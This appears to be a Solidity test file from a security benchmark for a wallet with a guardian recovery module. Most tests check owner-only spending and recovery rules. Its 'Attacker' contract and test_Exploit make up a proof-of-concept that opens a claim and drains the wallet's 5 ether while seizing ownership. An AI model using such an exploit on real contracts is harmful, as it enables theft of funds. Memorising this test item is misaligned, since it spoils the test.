// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./LanternWallet.sol";

// assay-canary-d96991f4-d379-4c8b-9c56-e575ec15a176

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

/// An honest person: the owner, a guardian or a claimant.
contract Person {
    receive() external payable {}

    function call(address to, bytes calldata data) external {
        (bool ok, ) = to.call(data);
        require(ok, "call failed");
    }
}

contract Attacker {
    receive() external payable {}

    function run(LanternWallet wallet) external {
        RecoveryModule(address(wallet)).openClaim();
        try wallet.execute(address(this), address(wallet).balance, "") {} catch {}
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    LanternWallet private wallet;
    RecoveryModule private module;
    Person private olga;
    Person private gus;
    Person private gina;
    Person private heir;
    Attacker private mallory;

    function setUp() public {
        olga = new Person();
        gus = new Person();
        gina = new Person();
        heir = new Person();
        mallory = new Attacker();
        module = new RecoveryModule();
        wallet = new LanternWallet(address(olga));
        vm.deal(address(wallet), 5 ether);

        bytes4[] memory selectors = new bytes4[](8);
        selectors[0] = RecoveryModule.setGuardian.selector;
        selectors[1] = RecoveryModule.setQuorum.selector;
        selectors[2] = RecoveryModule.openClaim.selector;
        selectors[3] = RecoveryModule.approveClaim.selector;
        selectors[4] = RecoveryModule.dismissClaim.selector;
        selectors[5] = RecoveryModule.finishClaim.selector;
        selectors[6] = RecoveryModule.claimOf.selector;
        selectors[7] = bytes4(keccak256("isGuardian(address)"));
        olga.call(address(wallet), abi.encodeCall(LanternWallet.setModule, (selectors, address(module))));
        _configure(abi.encodeCall(RecoveryModule.setGuardian, (address(gus), true)));
        _configure(abi.encodeCall(RecoveryModule.setGuardian, (address(gina), true)));
        _configure(abi.encodeCall(RecoveryModule.setQuorum, (2)));
    }

    function _configure(bytes memory data) private {
        olga.call(address(wallet), abi.encodeCall(LanternWallet.execute, (address(wallet), 0, data)));
    }

    function test_Regular() public {
        // the owner, and only the owner, spends
        olga.call(address(wallet), abi.encodeCall(LanternWallet.execute, (address(olga), 1 ether, "")));
        require(address(olga).balance == 1 ether, "owner paid");
        require(!_try(gus, address(wallet), abi.encodeCall(LanternWallet.execute, (address(gus), 1 ether, ""))), "spent");
        require(!_try(gus, address(wallet), abi.encodeCall(RecoveryModule.setQuorum, (1))), "settings changed");
        require(!_try(heir, address(module), abi.encodeCall(RecoveryModule.openClaim, ())), "called without a wallet");
        require(RecoveryModule(address(wallet)).isGuardian(address(gina)), "guardian set");

        // the owner's key is lost: a claim takes two guardians and a week
        heir.call(address(wallet), abi.encodeCall(RecoveryModule.openClaim, ()));
        gus.call(address(wallet), abi.encodeCall(RecoveryModule.approveClaim, (address(heir))));
        require(!_try(gus, address(wallet), abi.encodeCall(RecoveryModule.approveClaim, (address(heir)))), "twice");
        require(!_try(heir, address(wallet), abi.encodeCall(RecoveryModule.approveClaim, (address(heir)))), "outsider");
        vm.warp(block.timestamp + 7 days);
        require(!_try(heir, address(wallet), abi.encodeCall(RecoveryModule.finishClaim, (address(heir)))), "one of two");
        gina.call(address(wallet), abi.encodeCall(RecoveryModule.approveClaim, (address(heir))));
        heir.call(address(wallet), abi.encodeCall(RecoveryModule.finishClaim, (address(heir))));
        require(wallet.owner() == address(heir), "recovered");
        heir.call(address(wallet), abi.encodeCall(LanternWallet.execute, (address(heir), 4 ether, "")));
        require(address(heir).balance == 4 ether, "new owner paid");

        uint256 held = address(wallet).balance;
        (bool ok, ) = address(wallet).call{value: 1 ether}("");
        require(ok && address(wallet).balance == held + 1 ether, "received");
        heir.call(address(wallet), abi.encodeCall(LanternWallet.execute, (address(wallet), 0, abi.encodeCall(RecoveryModule.dismissClaim, (address(heir))))));
    }

    function _try(Person who, address to, bytes memory data) private returns (bool ok) {
        (ok, ) = address(who).call(abi.encodeCall(Person.call, (to, data)));
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts.
    function refuses(address who) internal {
        vm.prank(who);
        vm.expectRevert();
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Modules are the owner's and have code, settings the wallet's own.
    function test_RefusesStrangers() public {
        bytes4[] memory selectors = new bytes4[](1);
        selectors[0] = bytes4(0x01020304);
        refuses(address(gus), abi.encodeWithSelector(LanternWallet.NotOwner.selector, address(gus)));
        wallet.setModule(selectors, address(module));
        refuses(address(olga), abi.encodeWithSelector(LanternWallet.NotAContract.selector, address(0xBEE)));
        wallet.setModule(selectors, address(0xBEE));
        vm.prank(address(olga));
        wallet.setModule(selectors, address(0));
        (bool ok, ) = address(wallet).call(abi.encodePacked(selectors[0]));
        require(!ok, "no module");
        RecoveryModule here = RecoveryModule(address(wallet));
        refuses(address(gus), RecoveryModule.OnlyWallet.selector);
        here.setGuardian(address(gus), true);
        refuses(address(gus), RecoveryModule.OnlyWallet.selector);
        here.dismissClaim(address(heir));
        vm.expectRevert(RecoveryModule.OnlyWallet.selector);
        module.approveClaim(address(heir));
        vm.expectRevert(RecoveryModule.OnlyWallet.selector);
        module.finishClaim(address(heir));
        refuses(address(olga));
        wallet.execute(address(wallet), 0, abi.encodePacked(selectors[0]));
    }

    /// A claim is opened, ripe, and approved by a quorum that is not zero.
    function test_RefusesClaims() public {
        RecoveryModule here = RecoveryModule(address(wallet));
        vm.expectRevert(RecoveryModule.NoClaim.selector);
        here.claimOf(address(heir));
        _configure(abi.encodeCall(RecoveryModule.setQuorum, (0)));
        vm.prank(address(heir));
        here.openClaim();
        vm.prank(address(gus));
        here.approveClaim(address(heir));
        vm.prank(address(gina));
        here.approveClaim(address(heir));
        vm.expectRevert(abi.encodeWithSelector(RecoveryModule.TooEarly.selector, block.timestamp + 7 days));
        here.finishClaim(address(heir));
        vm.warp(block.timestamp + 7 days);
        vm.expectRevert(abi.encodeWithSelector(RecoveryModule.QuorumMissing.selector, 2));
        here.finishClaim(address(heir));
    }

    function exploit() public {
        mallory.run(wallet);
    }

    function test_Exploit() public {
        exploit();
        require(wallet.owner() == address(mallory), "owner unchanged");
        require(address(mallory).balance == 5 ether, "wallet not emptied");
    }

    function target() public view returns (address) {
        return address(wallet);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
